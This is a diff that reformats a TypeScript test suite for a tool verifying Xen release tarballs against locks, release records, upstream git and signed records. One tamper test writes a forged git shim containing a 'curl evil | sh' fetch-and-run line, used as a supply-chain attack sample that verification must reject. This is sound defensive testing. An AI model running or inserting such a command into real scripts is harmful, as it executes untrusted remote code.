@@ -36,7 +36,9 @@ beforeAll(async () => {
   const d = await tmp.make();
   await mkdir(join(d, 'newlib-1.16.0'));
   await writeFile(join(d, 'newlib-1.16.0', 'README'), 'newlib\n');
-  server = await startHttpServer({ files: { '/newlib-1.16.0.tar.gz': execFileSync('tar', ['-C', d, '-czf', '-', 'newlib-1.16.0']) } });
+  server = await startHttpServer({
+    files: { '/newlib-1.16.0.tar.gz': execFileSync('tar', ['-C', d, '-czf', '-', 'newlib-1.16.0']) },
+  });
   cacheDir = await tmp.make('xenrel-cache-');
   project = await tmp.make('xenrel-xen-');
   await writeFile(
@@ -56,8 +58,14 @@ beforeAll(async () => {
     ['add', '-A'],
     ['commit', '-q', '-m', 'xen'],
   ])
-    execFileSync('git', args, { cwd: project, env: { ...fx.env, GIT_AUTHOR_DATE: '@1700000000 +0000', GIT_COMMITTER_DATE: '@1700000000 +0000' } });
-  const r = await runInProcess(['release', '--cache', cacheDir, '--out', join(project, 'out')], { cwd: project, env: fx.env });
+    execFileSync('git', args, {
+      cwd: project,
+      env: { ...fx.env, GIT_AUTHOR_DATE: '@1700000000 +0000', GIT_COMMITTER_DATE: '@1700000000 +0000' },
+    });
+  const r = await runInProcess(['release', '--cache', cacheDir, '--out', join(project, 'out')], {
+    cwd: project,
+    env: fx.env,
+  });
   expect(r.code, r.stderr).toBe(0);
   tarball = join(project, 'out', `${TOP}.tar.gz`);
   recordFile = join(project, 'out', `${TOP}.release.json`);
@@ -79,7 +87,8 @@ async function tampered(edit: (root: string) => Promise<void>): Promise<string> 
   return out;
 }
 
-const verify = (file: string, args: string[]) => runInProcess(['verify', file, ...args, '--json'], { cwd: project, env: fx.env });
+const verify = (file: string, args: string[]) =>
+  runInProcess(['verify', file, ...args, '--json'], { cwd: project, env: fx.env });
 const anchored = () => ['--lock', join(project, 'xenrel.lock'), '--record', recordFile];
 const upstream = () => ['--upstream', '--project-repo', `file://${project}`];
 
@@ -122,10 +131,14 @@ describe('verify accounts for every byte', () => {
     const r = parse(await verify(tarball, anchored()));
     expect(r.exitCode, JSON.stringify(r.verify.generated)).toBe(0);
     expect(r.verify.anchors).toEqual({ lock: 'given', project: 'record' });
-    expect(r.verify.generated.filter((g: { status: string }) => g.status !== 'ok').map((g: { path: string }) => g.path)).toEqual([]);
+    expect(
+      r.verify.generated.filter((g: { status: string }) => g.status !== 'ok').map((g: { path: string }) => g.path),
+    ).toEqual([]);
     const u = parse(await verify(tarball, upstream()));
     expect(u.exitCode, JSON.stringify(u.verify.problems)).toBe(0);
-    expect(u.verify.project.against.map((c: { anchor: string; ok: boolean }) => [c.anchor, c.ok])).toEqual([['upstream', true]]);
+    expect(u.verify.project.against.map((c: { anchor: string; ok: boolean }) => [c.anchor, c.ok])).toEqual([
+      ['upstream', true],
+    ]);
   });
 
   it("Xen's own Makefile replaced: named by the record and by upstream", async () => {
@@ -158,7 +171,9 @@ describe('verify accounts for every byte', () => {
   });
 
   it('the shim replaced: regenerated from the lock, named', async () => {
-    const forged = await tampered(async (root) => writeFile(join(root, '.xenrel/bin/git'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 }));
+    const forged = await tampered(async (root) =>
+      writeFile(join(root, '.xenrel/bin/git'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 }),
+    );
     for (const args of [['--lock', join(project, 'xenrel.lock')], ['--record', recordFile], upstream()]) {
       const r = parse(await verify(forged, args));
       expect(r.exitCode, args.join(' ')).toBe(1);
@@ -170,7 +185,10 @@ describe('verify accounts for every byte', () => {
     const forged = await tampered(async (root) => {
       const text = await readFile(join(root, '.config'), 'utf8');
       expect(text.startsWith('debug := y\n# BEGIN xenrel')).toBe(true);
-      await writeFile(join(root, '.config'), text.replace('override GIT := $(XEN_ROOT)/.xenrel/bin/git', 'override GIT := git'));
+      await writeFile(
+        join(root, '.config'),
+        text.replace('override GIT := $(XEN_ROOT)/.xenrel/bin/git', 'override GIT := git'),
+      );
     });
     const r = parse(await verify(forged, anchored()));
     expect(r.exitCode).toBe(1);
@@ -195,7 +213,9 @@ describe('verify accounts for every byte', () => {
     });
     const r = parse(await verify(forged, anchored()));
     expect(r.exitCode).toBe(1);
-    const extra = r.verify.generated.filter((g: { status: string }) => g.status === 'extra').map((g: { path: string }) => g.path);
+    const extra = r.verify.generated
+      .filter((g: { status: string }) => g.status === 'extra')
+      .map((g: { path: string }) => g.path);
     expect(extra).toEqual(['.xenrel/bin/make', '.xenrel/sources/evil/x']);
     expect(r.verify.project.against[0].extra).toEqual(['tools/misc/helper.sh']);
   });
@@ -216,7 +236,9 @@ describe('verify accounts for every byte', () => {
     expect(f.exitCode).toBe(1);
     expect(f.verify.problems.join('\n')).toMatch(/\.xenrel\/xenrel\.lock: not the lock the release record names/);
     // The re-packed tarball is not the one the record lists, either.
-    expect(f.verify.problems.join('\n')).toMatch(/the tarball's sha256 [0-9a-f]{64} is none of those the release record lists/);
+    expect(f.verify.problems.join('\n')).toMatch(
+      /the tarball's sha256 [0-9a-f]{64} is none of those the release record lists/,
+    );
     // Whitespace only: the same lock, but its bytes are not what xenrel writes.
     const ws = await tampered(async (root) => appendFile(join(root, '.xenrel/xenrel.lock'), ' '));
     const w = parse(await verify(ws, ['--record', recordFile]));
@@ -244,13 +266,17 @@ describe('verify accounts for every byte', () => {
     for (const args of [[], ['--lock', join(project, 'xenrel.lock')]]) {
       const r = await runInProcess(['verify', forged, ...args], { cwd: project });
       expect(r.code, r.stderr).toBe(1);
-      expect(r.stdout + r.stderr).toMatch(/\.xenrel\/shim\.tsv: malformed: line \d+ \(seabios\): store: must be relative, without \. or \.\. segments/);
+      expect(r.stdout + r.stderr).toMatch(
+        /\.xenrel\/shim\.tsv: malformed: line \d+ \(seabios\): store: must be relative, without \. or \.\. segments/,
+      );
       expect(r.stdout + r.stderr).not.toMatch(/unexpected error/);
     }
   });
 
   it('release.json that does not fit its schema is a clear failure, exit 1', async () => {
-    const forged = await tampered(async (root) => writeFile(join(root, '.xenrel/release.json'), '{"components":{"a":{"path":5}}}'));
+    const forged = await tampered(async (root) =>
+      writeFile(join(root, '.xenrel/release.json'), '{"components":{"a":{"path":5}}}'),
+    );
     const r = await runInProcess(['verify', forged], { cwd: project });
     expect(r.code).toBe(1);
     expect(r.stdout + r.stderr).toMatch(/\.xenrel\/release\.json: /);
@@ -287,7 +313,10 @@ describe('a signed release record (--record-key)', () => {
   it('signed by the given key: verified; every byte anchored', async () => {
     const text = await readFile(recordFile, 'utf8');
     const rec = await published(text, keyring.detachSign(fprRm, text));
-    const r = await runInProcess(['verify', tarball, '--lock', join(project, 'xenrel.lock'), '--record', rec, '--record-key', keyFile, '--json'], { cwd: project, env: fx.env });
+    const r = await runInProcess(
+      ['verify', tarball, '--lock', join(project, 'xenrel.lock'), '--record', rec, '--record-key', keyFile, '--json'],
+      { cwd: project, env: fx.env },
+    );
     const doc = parse(r);
     expect(doc.exitCode, r.stderr).toBe(0);
     expect(doc.verify.anchors).toEqual({ lock: 'given', project: 'record' });
@@ -305,7 +334,10 @@ describe('a signed release record (--record-key)', () => {
       ['signature of another file', await published(text, keyring.detachSign(fprRm, 'something else\n'))],
     ];
     for (const [what, rec] of cases) {
-      const r = await runInProcess(['verify', tarball, '--record', rec, '--record-key', keyFile, '--json'], { cwd: project, env: fx.env });
+      const r = await runInProcess(['verify', tarball, '--record', rec, '--record-key', keyFile, '--json'], {
+        cwd: project,
+        env: fx.env,
+      });
       const doc = parse(r);
       expect(r.code, `${what}: ${r.stderr}`).toBe(1);
       expect(
